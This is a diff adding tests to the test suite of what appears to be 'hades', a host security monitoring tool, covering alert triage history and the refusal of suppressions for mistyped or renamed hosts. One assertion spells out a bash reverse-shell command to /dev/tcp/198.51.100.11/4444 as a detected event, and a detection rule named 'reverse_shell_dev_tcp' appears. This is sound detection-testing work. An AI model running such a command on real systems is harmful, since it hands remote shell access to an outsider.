@@ -151,6 +151,31 @@ describe('alert triage with revisions (ETag and If-Match)', () => {
     assert.equal(bad.status, 2);
     assert.match(bad.stderr, /HADES_ERR_CLI_INVALID_ARGUMENT: --revision/);
   });
+
+  it('an alert\'s triage history (who set what, when) is in GET /api/v1/alerts/ID for every role, and hades alerts show prints it with the events', async () => {
+    const { token: readOnly } = (await server.ok('POST', '/api/v1/tokens/api', { body: { name: 'night-viewer', role: 'read-only' } })) as { token: string };
+    const read = await server.api('GET', `/api/v1/alerts/${alertId}`, { token: readOnly });
+    assert.equal(read.status, 200, read.text);
+    const history = read.body.history as AnyEvent[];
+    assert.deepEqual(
+      history.map((h) => [h['actor'], h['status'], h['assignee'], h['from']?.status, h['revision']]),
+      [
+        ['ana', 'acknowledged', 'ana', 'new', 2],
+        ['bo', undefined, 'bo', 'acknowledged', 3],
+        ['bo', undefined, 'ana', 'acknowledged', 4],
+        ['bo', 'resolved', undefined, 'acknowledged', 5],
+        ['bootstrap-admin', 'acknowledged', undefined, 'resolved', 6],
+      ],
+    );
+    assert.ok(history.every((h) => typeof h['time'] === 'string'));
+    const shown = await runHades(['alerts', 'show', alertId, '--config', configFile]);
+    assert.equal(shown.status, 0, shown.stderr);
+    assert.match(shown.stdout, /^ {2}triage: +\S+ ana: new -> acknowledged, assigned to ana \(revision 2\)$/m);
+    assert.match(shown.stdout, /^ {2}triage: +\S+ bootstrap-admin: resolved -> acknowledged \(revision 6\)$/m);
+    // Why it fired: the triggering event on its line, and where to look around it.
+    assert.match(shown.stdout, /^ {4}\S+ +\S+ +exec +bash\(\d+\) +bash -c bash -i >& \/dev\/tcp\/198\.51\.100\.11\/4444 0>&1/m);
+    assert.match(shown.stdout, /^ {2}around: +hades search --host ag_[0-9a-f]+ --since \S+Z --until \S+Z$/m);
+  });
 });
 
 describe('a triage and its audit record are one write', () => {
@@ -205,5 +230,24 @@ describe('host-scoped suppressions go by the agent the server knows', () => {
     await sendShell(a, nameA, nameA, '198.51.100.23');
     await waitUntil('the hit by agent id', async () => ((await server.ok('GET', '/api/v1/suppressions')) as { suppressions: AnyEvent[] }).suppressions.find((s) => s['id'] === byId['id'] && s['hits'] === 1));
     assert.ok(!(await alertsOf(a.agentId)).some((x) => JSON.stringify(x).includes('/dev/tcp/198.51.100.23/')));
+  });
+
+  it('a suppression for a host no agent enrolled as (nor has as its id) is refused with the closest name, as it would silence nothing', async () => {
+    const name = `triage-typo-${tag}`;
+    const agent = await enrollAs(name);
+    const typo = await server.api('POST', '/api/v1/suppressions', { body: { rule: 'reverse_shell_dev_tcp', host: `${name}x`, for: '1h', reason: 'typo' } });
+    assert.equal(typo.status, 400, typo.text);
+    assert.equal(typo.body.code, 'HADES_ERR_API_INVALID_REQUEST');
+    assert.match(typo.body.message, new RegExp(`no agent enrolled with the name '${name}x'.*did you mean '${name}'`));
+    // A name the host gives itself now (its hello), not the one it enrolled with: said so.
+    await sendShell(agent, name, `renamed-${tag}`, '198.51.100.24');
+    const renamed = await server.api('POST', '/api/v1/suppressions', { body: { rule: 'reverse_shell_dev_tcp', host: `renamed-${tag}`, for: '1h', reason: 'renamed' } });
+    assert.equal(renamed.status, 400, renamed.text);
+    assert.match(renamed.body.message, new RegExp(`agent ${agent.agentId} calls itself 'renamed-${tag}' but enrolled as '${name}'`));
+    const cli = await runHades(['alerts', 'suppress', '--rule', 'reverse_shell_dev_tcp', '--host', `${name}x`, '--for', '1h', '--reason', 'typo', '--config', configFile]);
+    assert.equal(cli.status, 2);
+    assert.match(cli.stderr, /HADES_ERR_API_INVALID_REQUEST: host: no agent enrolled/);
+    const suppressions = ((await server.ok('GET', '/api/v1/suppressions')) as { suppressions: AnyEvent[] }).suppressions;
+    assert.ok(!suppressions.some((s) => s['reason'] === 'typo' || s['reason'] === 'renamed'), 'nothing was made');
   });
 });
